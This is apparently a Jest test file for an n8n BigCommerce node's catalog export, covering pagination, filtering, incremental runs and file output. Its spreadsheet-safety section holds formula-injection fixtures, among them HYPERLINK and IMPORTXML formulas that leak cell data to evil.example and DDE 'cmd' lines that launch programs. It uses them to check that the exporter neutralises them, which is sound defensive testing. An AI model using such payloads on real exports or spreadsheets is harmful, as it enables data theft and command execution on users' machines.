import { NodeApiError, NodeOperationError, sleep } from 'n8n-workflow';

import { startSandbox, type Json, type SandboxHandle } from '../../helpers/sandbox';
import { csvCell } from '../../../nodes/BigCommerce/actions/product/exportCatalog.operation';
import { runNode, runNodeError } from '../../helpers/node';
import { parseCsv } from '../../helpers/files';
import { createProductViaApi } from './fixtures';

const base = { resource: 'product', operation: 'exportCatalog', simplify: true };

describe('Product → Export Catalog (600 products)', () => {
	let sandbox: SandboxHandle;
	beforeAll(async () => {
		sandbox = await startSandbox({ seed: { products: 600 } });
	});
	afterAll(async () => sandbox.close());
	const all = () => [...(sandbox.state.catalog.products as Map<number, Json>).values()];

	it('reads every product with variants, images, custom fields and videos in exactly 3 calls', async () => {
		const { json, requests } = await runNode(sandbox, { ...base, options: {} });
		expect(requests).toHaveLength(3);
		for (const r of requests) {
			expect(r).toMatchObject({ method: 'GET', path: '/catalog/products' });
			expect(r.query).toMatchObject({
				include: 'variants,images,custom_fields,videos',
				limit: '250',
				sort: 'id',
				direction: 'asc',
			});
		}
		// the whole catalog: page numbers (page 1 first, then the others at once), no keyset cursor
		expect(requests[0].query.page).toBe('1');
		expect(requests.map((r) => r.query.page).sort()).toEqual(['1', '2', '3']);
		expect(requests.every((r) => r.query['id:greater'] === undefined)).toBe(true);
		expect(json).toHaveLength(600);
		const p = json[7] as Json;
		expect(Object.keys(p)).toEqual(
			expect.arrayContaining([
				'id',
				'name',
				'variants',
				'images',
				'custom_fields',
				'videos',
				'in_stock',
				'description',
			]),
		);
		expect(json[0].videos).toHaveLength(1);
	});

	it('"visible and in stock only" leaves out exactly the hidden and out-of-stock products', async () => {
		const { json, requests } = await runNode(sandbox, {
			...base,
			options: { visibleInStockOnly: true },
		});
		expect(requests.every((r) => r.query.is_visible === 'true')).toBe(true);
		// a filtered list gains members anywhere in id order: read by keyset, one page after the other
		expect(requests.map((r) => r.query.page)).toEqual([undefined, undefined, undefined]);
		expect(requests.map((r) => r.query['id:greater'] !== undefined)).toEqual([false, true, true]);
		const hidden = all()
			.filter((p) => !p.is_visible)
			.map((p) => p.id);
		const soldOut = all()
			.filter(
				(p) =>
					p.inventory_tracking === 'variant' &&
					p.variants.every((v: Json) => v.inventory_level === 0),
			)
			.map((p) => p.id);
		expect(hidden.length).toBe(60);
		expect(soldOut.length).toBe(60);
		const excluded = new Set([...hidden, ...soldOut]);
		expect(json.map((p) => p.id)).toEqual(
			all()
				.filter((p) => !excluded.has(p.id))
				.map((p) => p.id),
		);
		// partly sold-out products (some variants at 0) stay
		expect(json.map((p) => p.id)).toContain(10);
		expect(
			all()
				.find((p) => p.id === 10)
				.variants.some((v: Json) => v.inventory_level === 0),
		).toBe(true);
	});

	it('excludes products restricted to customer groups', async () => {
		const { json, requests } = await runNode(sandbox, {
			...base,
			options: { excludeRestricted: true },
		});
		expect(requests[0]).toMatchObject({ method: 'GET', version: 'v2', path: '/customer_groups' });
		// the seed's "Wholesale Exclusives" category is kept out of the seeded customer groups' access
		const RESTRICTED_CATEGORY_ID = [
			...(sandbox.state.catalog.categories as Map<number, Json>).values(),
		].find((c) => c.name === 'Wholesale Exclusives').id;
		const restricted = all()
			.filter(
				(p) =>
					p.categories.length && p.categories.every((c: number) => c === RESTRICTED_CATEGORY_ID),
			)
			.map((p) => p.id);
		expect(restricted.length).toBe(40);
		expect(json).toHaveLength(600 - restricted.length);
		const ids = new Set(json.map((p) => p.id));
		for (const id of restricted) expect(ids.has(id)).toBe(false);
		expect(json[0].notice).toBeUndefined();
	});

	it('without the customer-group scope it still exports, with a notice', async () => {
		const token = sandbox.addToken('catalog-only-token-0123456789', [
			'store_v2_products_read_only',
		]);
		const { json, requests } = await runNode(
			sandbox,
			{ ...base, options: { excludeRestricted: true } },
			{ token },
		);
		expect(requests[0]).toMatchObject({ path: '/customer_groups', status: 403 });
		expect(json).toHaveLength(600);
		expect(String(json[0].notice)).toMatch(/NOT applied.*store_v2_customers_read_only/);
	});

	it('adds a CSV file on a summary item', async () => {
		const { out } = await runNode(sandbox, {
			...base,
			options: { fileFormat: 'csv', channelIds: '2' },
		});
		const summary = out[out.length - 1];
		const onChannel2 = all().filter((p) => p.channels.includes(2));
		expect(out).toHaveLength(onChannel2.length + 1);
		expect(summary.json).toMatchObject({
			summary: true,
			exported: onChannel2.length,
			api_calls: 1,
		});
		const file = summary.binary?.data as Json;
		expect(file.mimeType).toBe('text/csv');
		expect(file.fileName).toMatch(/^catalog-export-.*\.csv$/);
		const bytes = Buffer.from(file.data, 'base64');
		// the UTF-8 byte order mark comes first (on by default), then the header
		expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
		const lines = bytes.subarray(3).toString('utf8').trim().split('\n');
		expect(lines[0]).toMatch(/^id,name,sku,type,price/);
		expect(lines).toHaveLength(onChannel2.length + 1);
		expect(lines[1].startsWith(`${onChannel2[0].id},`)).toBe(true);
		expect(summary.pairedItem).toEqual({ item: 0 });
	});

	it('adds a JSON Lines file', async () => {
		const { out } = await runNode(sandbox, {
			...base,
			options: { fileFormat: 'jsonl', binaryProperty: 'catalog', visibleInStockOnly: true },
		});
		const summary = out[out.length - 1];
		const text = Buffer.from((summary.binary?.catalog as Json).data, 'base64').toString('utf8');
		const rows = text
			.trim()
			.split('\n')
			.map((line) => JSON.parse(line));
		expect(rows).toHaveLength(out.length - 1);
		expect(rows[0]).toEqual(JSON.parse(JSON.stringify(out[0].json)));
		expect(summary.json.skipped).toEqual({
			hidden: 0,
			out_of_stock: 60,
			restricted: 0,
			unchanged: 0,
		});
	});

	it('without Simplify returns the full records but still writes the simplified file', async () => {
		const { out, requests } = await runNode(sandbox, {
			...base,
			simplify: false,
			options: { fileFormat: 'jsonl' },
		});
		expect(requests).toHaveLength(3);
		expect(out).toHaveLength(601);
		expect(out[0].json).toMatchObject({
			id: 1,
			open_graph_type: 'product',
			variants: expect.any(Array),
		});
		const first = JSON.parse(
			Buffer.from((out[600].binary?.data as Json).data, 'base64')
				.toString('utf8')
				.split('\n')[0],
		);
		expect(first.id).toBe(1);
		expect(first.open_graph_type).toBeUndefined();
		expect(first.in_stock).toBe(true);
	});

	it('"File Only" outputs just the summary item with the file: the same file, no item per product', async () => {
		const withItems = await runNode(sandbox, { ...base, options: { fileFormat: 'csv' } });
		const fileOnly = await runNode(sandbox, {
			...base,
			options: { fileFormat: 'csv', fileOnly: true },
		});
		expect(withItems.out).toHaveLength(601);
		expect(fileOnly.out).toHaveLength(1);
		expect(fileOnly.requests).toHaveLength(3);
		const [summary] = fileOnly.out;
		expect(summary.json).toMatchObject({ summary: true, exported: 600, api_calls: 3 });
		const text = (out: typeof summary) => Buffer.from((out.binary?.data as Json).data, 'base64');
		expect(text(summary).equals(text(withItems.out[600]))).toBe(true);
		const lines = text(summary).subarray(3).toString('utf8').trim().split('\n');
		expect(lines.slice(1).map((line) => Number(line.split(',')[0]))).toEqual(
			all().map((p) => p.id),
		);
	});

	/** The catalog pages asked for before page 1 was answered (page 1 is held for 300 ms). */
	const pagesBeforePage1Answered = () => {
		const seen = { pages: [] as string[], page1Answered: false };
		(sandbox.middlewares as Json[]).push(async (ctx: Json) => {
			if (ctx.method !== 'GET' || ctx.path !== '/catalog/products') return undefined;
			if (!seen.page1Answered) seen.pages.push(String(ctx.query.page));
			if (ctx.query.page === '1') {
				await sleep(300);
				seen.page1Answered = true;
			}
			return undefined;
		});
		return seen;
	};

	it("a later run sends its first pages together with page 1 (the previous run's page count, in static data), still 3 calls", async () => {
		const staticData = {};
		const seen = pagesBeforePage1Answered();
		try {
			const first = await runNode(sandbox, { ...base, options: {} }, { staticData });
			expect(first.requests).toHaveLength(3);
			// the first run knows nothing: page 1 alone, then the others
			expect(seen.pages).toEqual(['1']);
			expect((staticData as Json).productExportCatalogPages).toBe(3);
			Object.assign(seen, { pages: [], page1Answered: false });
			const second = await runNode(sandbox, { ...base, options: {} }, { staticData });
			expect(second.requests).toHaveLength(3);
			expect(seen.pages.sort()).toEqual(['1', '2', '3']);
			expect(second.json.map((p) => p.id)).toEqual(all().map((p) => p.id));
		} finally {
			(sandbox.middlewares as Json[]).pop();
		}
	});

	it('a catalog that shrank since the previous run costs at most the pages asked for in advance, and nothing is lost', async () => {
		// the previous run saw 5 pages (1,250 products): pages 1 to 4 go out at once; 600 fill 3
		const staticData: Json = { productExportCatalogPages: 5 };
		const { json, requests } = await runNode(sandbox, { ...base, options: {} }, { staticData });
		expect(requests.map((r) => r.query.page).sort()).toEqual(['1', '2', '3', '4']);
		expect(requests.every((r) => r.query['id:greater'] === undefined)).toBe(true);
		expect(json.map((p) => p.id)).toEqual(all().map((p) => p.id));
		expect(staticData.productExportCatalogPages).toBe(3);
	});

	it('a page that fails while pages are sent ahead ends the export with the API error, nothing left running', async () => {
		const fault = sandbox.faults.add({
			method: 'GET',
			path: /^\/v3\/catalog\/products$/,
			kind: 'status',
			status: 403,
			times: 1,
		});
		const staticData: Json = { productExportCatalogPages: 3 };
		const { error, requests } = await runNodeError(
			sandbox,
			{ ...base, options: {} },
			{ staticData },
		);
		expect(fault.hits).toBe(1);
		expect(error).toBeInstanceOf(NodeApiError);
		expect(error.message).toMatch(/403/);
		// the three pages went out together; none after the failure
		expect(requests.map((r) => r.query.page).sort()).toEqual(['1', '2', '3']);
		expect(staticData.productExportCatalogPages).toBe(3);
	});

	it.each([
		[{ channelIds: 'one' }, /"Channel IDs" must be a comma-separated list/],
		[{ fileFormat: 'csv', binaryProperty: 'bad name' }, /"Binary Property" must be a name/],
		[
			{ fileFormat: 'csv', addBom: 'no' },
			/"Add Byte Order Mark \(BOM\)" must be true or false; got "no"/,
		],
		[{ fileFormat: 'csv', fileOnly: 'yes' }, /"File Only" must be true or false; got "yes"/],
	])('rejects %j before any request', async (options, message) => {
		const { error, requests } = await runNodeError(sandbox, { ...base, options });
		expect(error).toBeInstanceOf(NodeOperationError);
		expect(error.message).toMatch(message);
		expect(requests).toHaveLength(0);
	});
});

describe('Product → Export Catalog, incremental', () => {
	let sandbox: SandboxHandle;
	beforeAll(async () => {
		sandbox = await startSandbox({ seed: { products: 40 } });
	});
	afterAll(async () => sandbox.close());

	it('the second run returns only the products changed in between, and a third run nothing', async () => {
		const staticData = {};
		const params = { ...base, options: { incremental: true } };
		const first = await runNode(sandbox, params, { staticData });
		expect(first.json).toHaveLength(40);
		expect(first.requests[0].query['date_modified:min']).toBeUndefined();
		const cursor = (staticData as Json).productExportCatalog;
		expect(Date.parse(cursor.startedAt)).toBeGreaterThan(Date.now() - 60_000);

		for (const id of [3, 17, 29]) {
			await runNode(sandbox, {
				resource: 'product',
				operation: 'update',
				productId: { __rl: true, mode: 'id', value: String(id) },
				updateFields: { price: 1 },
			});
		}

		const second = await runNode(sandbox, params, { staticData });
		const since = second.requests[0].query['date_modified:min'];
		expect(Date.parse(since)).toBe(
			Math.floor((Date.parse(cursor.startedAt) - 10 * 60 * 1000) / 1000) * 1000,
		);
		expect(second.json.map((p) => p.id)).toEqual([3, 17, 29]);

		const third = await runNode(sandbox, params, { staticData });
		expect(third.json).toEqual([]);
		// runs close together: a product returned two runs ago is still inside the overlap window
		const fourth = await runNode(sandbox, params, { staticData });
		expect(fourth.json).toEqual([]);
		expect(Object.keys((staticData as Json).productExportCatalog.recent).sort()).toEqual([
			'17',
			'29',
			'3',
		]);
	});
});

describe('Product → Export Catalog while the catalog changes', () => {
	let sandbox: SandboxHandle;
	beforeEach(async () => {
		sandbox = await startSandbox({ seed: { products: 600 } });
	});
	afterEach(async () => sandbox.close());
	const products = () => sandbox.state.catalog.products as Map<number, Json>;
	const route = (method: string, pattern: string) =>
		(sandbox.routes as Json[]).find(
			(r) => r.method === method && r.version === 'v3' && r.pattern === pattern,
		);
	/** Runs `change` once, just before the sandbox answers the second catalog page request. */
	const beforeSecondPage = (change: () => Promise<void> | void) => {
		let pages = 0;
		(sandbox.middlewares as Json[]).push(async (ctx: Json) => {
			if (ctx.method !== 'GET' || ctx.path !== '/catalog/products') return undefined;
			if (++pages === 2) await change();
			return undefined;
		});
	};
	const createProduct = async (name: string) =>
		(
			await route('POST', '/catalog/products').handler({
				method: 'POST',
				path: '/catalog/products',
				query: {},
				params: {},
				body: { name, type: 'physical', weight: 1, price: 5 },
			})
		).body.data.id as number;

	it('products deleted after the first page neither hide nor repeat others (total changed: the rest by keyset)', async () => {
		beforeSecondPage(() => {
			for (let id = 1; id <= 10; id++) products().delete(id);
		});
		const { json, requests } = await runNode(sandbox, { ...base, options: {} });
		const ids = json.map((p) => p.id as number);
		expect(new Set(ids).size).toBe(ids.length);
		// with page numbers only, products 251..260 would have slid onto page 1 and been missed
		expect(ids.filter((id) => id > 250)).toEqual([...products().keys()].filter((id) => id > 250));
		expect(ids).toHaveLength(600);
		// page 1, pages 2 and 3 (they report 590: changed), then keyset after page 1's last id
		expect(requests.map((r) => r.query['id:greater'] ?? `page ${r.query.page}`)).toEqual([
			'page 1',
			expect.stringMatching(/^page [23]$/),
			expect.stringMatching(/^page [23]$/),
			'250',
			'500',
		]);
	});

	it('a product created and one deleted between pages (same total) skip nothing and repeat nothing', async () => {
		let created = 0;
		beforeSecondPage(async () => {
			products().delete(5);
			created = await createProduct('Created during the export');
		});
		const { out, requests } = await runNode(sandbox, {
			...base,
			options: { fileFormat: 'jsonl' },
		});
		const json = out.slice(0, -1).map((item) => item.json);
		const ids = json.map((p) => p.id as number);
		expect(created).toBe(601);
		expect(new Set(ids).size).toBe(ids.length);
		// the file holds the same products in the same (id) order, although the keyset read brought
		// products (251, 601) from inside and after the ranges of pages read before it
		const file = Buffer.from((out[out.length - 1].binary?.data as Json).data, 'base64');
		const rows = file.toString('utf8').trim().split('\n');
		expect(rows.map((row) => JSON.parse(row).id)).toEqual(ids);
		expect(JSON.parse(rows[250])).toEqual(JSON.parse(JSON.stringify(json[250])));
		// pages 2 and 3 were answered from a list with one product fewer before them: product 251
		// moved onto page 1's range, yet it is there
		expect(ids).toContain(251);
		// every product present during the whole export, the one created, and 5 (read before it went)
		expect(ids).toEqual([...Array(601).keys()].map((k) => k + 1));
		// page 3 showed the new product: the rest after page 1 was read again by keyset
		expect(requests.map((r) => r.query['id:greater'] ?? 'page')).toEqual([
			'page',
			'page',
			'page',
			'250',
			'500',
		]);
	});

	it('a creation and a deletion between pages whose new product is never read: one product short, so keyset', async () => {
		// page 3 is answered first; then product 5 goes, a product is created, and page 2 is answered
		let page3Answered = false;
		(sandbox.observers as Json[]).push((exchange: Json) => {
			if (exchange.ctx.path === '/catalog/products' && exchange.ctx.query.page === '3')
				page3Answered = true;
		});
		let created = 0;
		(sandbox.middlewares as Json[]).push(async (ctx: Json) => {
			if (ctx.method !== 'GET' || ctx.path !== '/catalog/products' || ctx.query.page !== '2')
				return undefined;
			for (let wait = 0; wait < 250 && !page3Answered; wait++) await sleep(20);
			products().delete(5);
			created = await createProduct('Created during the export');
			return undefined;
		});
		const { json, requests } = await runNode(sandbox, { ...base, options: {} });
		const ids = json.map((p) => p.id as number);
		expect(page3Answered).toBe(true);
		expect(created).toBe(601);
		// page 2 held 252..501 and page 3 501..600: 599 distinct products where page 1 said 600
		// (with the same total everywhere and the new product on no page read)
		expect(new Set(ids).size).toBe(ids.length);
		expect(ids).toContain(251);
		expect(ids).toEqual([...Array(601).keys()].map((k) => k + 1));
		expect(requests.map((r) => r.query['id:greater'] ?? 'page')).toEqual([
			'page',
			'page',
			'page',
			'250',
			'500',
		]);
	});

	it('reads the pages after the first concurrently (4 in flight)', async () => {
		for (let n = 0; n < 650; n++) {
			// 1,250 products = 5 pages, created a month ago (a product created during the export is
			// the sign that sends the rest to a keyset read)
			const product = products().get(await createProduct(`Extra ${n}`)) as Json;
			product.date_created -= 30 * 86_400_000;
		}
		let inFlight = 0;
		let maxInFlight = 0;
		let released = false;
		(sandbox.middlewares as Json[]).push(async (ctx: Json) => {
			if (ctx.method !== 'GET' || ctx.path !== '/catalog/products') return undefined;
			inFlight++;
			maxInFlight = Math.max(maxInFlight, inFlight);
			// hold each page until four are in flight (or a while has passed: never hangs)
			if (inFlight >= 4) released = true;
			for (let wait = 0; wait < 100 && !released && ctx.query.page !== '1'; wait++) await sleep(20);
			inFlight--;
			return undefined;
		});
		const { json, requests } = await runNode(sandbox, { ...base, options: {} });
		expect(json).toHaveLength(1250);
		expect(json.map((p) => p.id)).toEqual([...products().keys()].sort((a, b) => a - b));
		expect(requests).toHaveLength(5);
		expect(requests[0].query.page).toBe('1');
		expect(
			requests
				.slice(1)
				.map((r) => r.query.page)
				.sort(),
		).toEqual(['2', '3', '4', '5']);
		expect(maxInFlight).toBe(4);
	});
});

describe('Product → Export Catalog: a CSV that is safe to open in a spreadsheet', () => {
	let sandbox: SandboxHandle;
	beforeAll(async () => {
		sandbox = await startSandbox({ seed: { products: 3 } });
	});
	afterAll(async () => sandbox.close());

	const createProduct = async (product: Json) => await createProductViaApi(sandbox, product);
	/** Runs the export with a CSV file; returns the raw bytes and the parsed rows keyed by column. */
	const exportCsv = async (options: Json = {}) => {
		const { out } = await runNode(sandbox, { ...base, options: { fileFormat: 'csv', ...options } });
		const summary = out[out.length - 1];
		const bytes = Buffer.from((summary.binary?.data as Json).data, 'base64');
		const text = bytes.toString('utf8').replace(/^\uFEFF/, '');
		const [header, ...rows] = parseCsv(text);
		const byId = new Map<number, Record<string, string>>();
		for (const cells of rows) {
			expect(cells).toHaveLength(header.length);
			byId.set(
				Number(cells[0]),
				Object.fromEntries(header.map((column, at) => [column, cells[at]])),
			);
		}
		return { out, bytes, header, byId };
	};

	/** Hostile catalog text, and the description cell expected (the description is exported as plain text). */
	const HOSTILE = [
		{
			name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a discount")',
			sku: '=1+1',
			description: "<p>=cmd|' /C calc'!A0</p>",
			csvDescription: "'=cmd|' /C calc'!A0",
		},
		{
			name: "+SUM(1+1)*cmd|' /C notepad'!A0",
			sku: '+44-SKU',
			description: '<p>+1 great product</p>',
			csvDescription: "'+1 great product",
		},
		{
			name: "-2+3+cmd|' /C calc'!A0",
			sku: '-5',
			description: '-10% off today',
			csvDescription: "'-10% off today",
		},
		{
			name: '@SUM(1+1)',
			sku: '@SKU',
			description: '<ul><li>a list first</li></ul>',
			csvDescription: "'- a list first",
		},
		{
			name: '\t=1+1 tabbed',
			sku: '\tTAB-1',
			description: '<p>&#61;1+1 (an entity)</p>',
			csvDescription: "'=1+1 (an entity)",
		},
		{
			name: '\r=1+1 carriage return',
			sku: '\rCR-SKU',
			description: '\r\n=2+2 after a line break',
			csvDescription: "'=2+2 after a line break",
		},
		{
			name: '   =1+1 after spaces',
			sku: '\uFF1D1+1',
			description: '＠fullwidth at',
			csvDescription: "'＠fullwidth at",
		},
	];

	it('neutralises text cells that start like a formula (names, SKUs, variant SKUs, descriptions); numbers stay as they are', async () => {
		const ids: number[] = [];
		for (const { name, sku, description } of HOSTILE) {
			ids.push(
				await createProduct({
					name,
					sku,
					description,
					custom_fields: [
						{ name: 'note', value: '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")' },
					],
				}),
			);
		}
		const { byId, out } = await exportCsv();
		const stored = (id: number) => (sandbox.state.catalog.products as Map<number, Json>).get(id);
		/** What a neutralised cell holds: a single quote, then the text (line breaks as spaces). */
		const neutralised = (text: string) => `'${text.replace(/\s*[\r\n]+\s*/g, ' ')}`;
		for (const [at, id] of ids.entries()) {
			const row = byId.get(id) as Record<string, string>;
			const item = out.find((entry) => entry.json.id === id)?.json as Json;
			expect(row.name).toBe(neutralised(HOSTILE[at].name));
			expect(row.sku).toBe(neutralised(HOSTILE[at].sku));
			expect(row.description).toBe(HOSTILE[at].csvDescription);
			// the base variant carries the product's SKU
			expect(row.variant_skus).toBe(neutralised(HOSTILE[at].sku));
			// numbers untouched
			expect(row.id).toBe(String(id));
			expect(row.price).toBe(String(stored(id).price));
			expect(row.inventory_level).toBe(String(stored(id).inventory_level));
			// no cell of the row starts like a formula any more
			for (const [column, cell] of Object.entries(row)) {
				expect({
					column,
					formula: /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell.trimStart()),
				}).toEqual({ column, formula: false });
			}
			// the items themselves keep BigCommerce's values (only the file is neutralised)
			expect(item.name).toBe(HOSTILE[at].name);
			expect(item.sku).toBe(HOSTILE[at].sku);
		}
		// ordinary text is not touched
		const plain = byId.get(1) as Record<string, string>;
		expect(plain.name).toBe(stored(1).name);
		expect(plain.name.startsWith("'")).toBe(false);
	});

	it('a cell holding a number (a price of -5, category IDs) is written as the number; the same text is neutralised', () => {
		expect([csvCell(-5), csvCell(-0.5), csvCell([-1, 2]), csvCell(true), csvCell(null)]).toEqual([
			'-5',
			'-0.5',
			'-1;2',
			'true',
			'',
		]);
		expect([csvCell('-5'), csvCell(['=A1', 'B']), csvCell('+1, or "more"')]).toEqual([
			"'-5",
			"'=A1;B",
			`"'+1, or ""more"""`,
		]);
	});

	it('JSON Lines is left as it is (hostile names and custom fields included)', async () => {
		const id = await createProduct({
			name: '=2+5 jsonl',
			sku: '@JSONL',
			custom_fields: [{ name: 'cmd', value: "=cmd|' /C calc'!A0" }],
		});
		const { out } = await runNode(sandbox, { ...base, options: { fileFormat: 'jsonl' } });
		const summary = out[out.length - 1];
		const bytes = Buffer.from((summary.binary?.data as Json).data, 'base64');
		expect(bytes[0]).toBe('{'.charCodeAt(0));
		const row = bytes
			.toString('utf8')
			.trim()
			.split('\n')
			.map((line) => JSON.parse(line))
			.find((p) => p.id === id);
		expect(row).toMatchObject({
			name: '=2+5 jsonl',
			sku: '@JSONL',
			custom_fields: [{ name: 'cmd', value: "=cmd|' /C calc'!A0" }],
		});
	});

	it('starts the CSV with a UTF-8 byte order mark by default, so accented names open correctly; the option turns it off', async () => {
		const id = await createProduct({ name: 'Crème brûlée façon Müller – Ñandú', sku: 'ÉTÉ-1' });
		const withBom = await exportCsv();
		expect([...withBom.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
		expect(withBom.bytes.subarray(3, 6).toString('utf8')).toBe('id,');
		expect(withBom.byId.get(id)).toMatchObject({
			name: 'Crème brûlée façon Müller – Ñandú',
			sku: 'ÉTÉ-1',
		});
		const withoutBom = await exportCsv({ addBom: false });
		expect(withoutBom.bytes.subarray(0, 3).toString('utf8')).toBe('id,');
		expect(withoutBom.byId.get(id)).toMatchObject({ name: 'Crème brûlée façon Müller – Ñandú' });
		// the same file apart from the mark (and the export's timestamps, which are not in the CSV)
		expect(withBom.bytes.subarray(3).equals(withoutBom.bytes)).toBe(true);
	});
});
